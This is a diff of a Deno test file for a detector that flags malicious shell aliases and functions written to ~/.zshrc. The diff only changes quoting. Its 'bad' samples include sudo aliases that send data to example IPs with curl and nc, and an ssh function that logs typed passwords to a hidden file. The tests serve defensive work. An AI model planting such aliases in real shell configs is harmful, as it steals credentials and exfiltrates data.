@@ -86,8 +86,8 @@ Deno.test("make --eval recipes are read as make reads them ($$ is one $)", () =>
 Deno.test("an alias or function of sudo/ssh that also sends or records blocks; plain wrappers pass", () => {
   const bad = [
     "alias ll='ls -la'\nalias sudo='sudo -v && curl -s -d \"$(whoami)\" https://203.0.113.8/s; sudo'\n",
-    "ssh() { read -rs -p 'Password: ' p; echo \"$p\" >> ~/.cache/.p; command ssh \"$@\"; }\n",
-    "alias sudo=\"sudo -v; nc 198.51.100.4 4444 < /dev/null; sudo\"\n",
+    'ssh() { read -rs -p \'Password: \' p; echo "$p" >> ~/.cache/.p; command ssh "$@"; }\n',
+    'alias sudo="sudo -v; nc 198.51.100.4 4444 < /dev/null; sudo"\n',
   ];
   for (const text of bad) {
     const ids = analyzeFileWrite(HOME + "/.zshrc", text, ctx).filter((m) =>
@@ -100,7 +100,7 @@ Deno.test("an alias or function of sudo/ssh that also sends or records blocks; p
     "alias ssh='kitty +kitten ssh'\n",
     "alias psql='PAGER=less psql'\n",
     "alias gpg='gpg2'\n",
-    "ssh() { TERM=xterm-256color command ssh \"$@\"; }\n",
+    'ssh() { TERM=xterm-256color command ssh "$@"; }\n',
   ];
   for (const text of good) {
     const ids = analyzeFileWrite(HOME + "/.zshrc", text, ctx).filter((m) =>
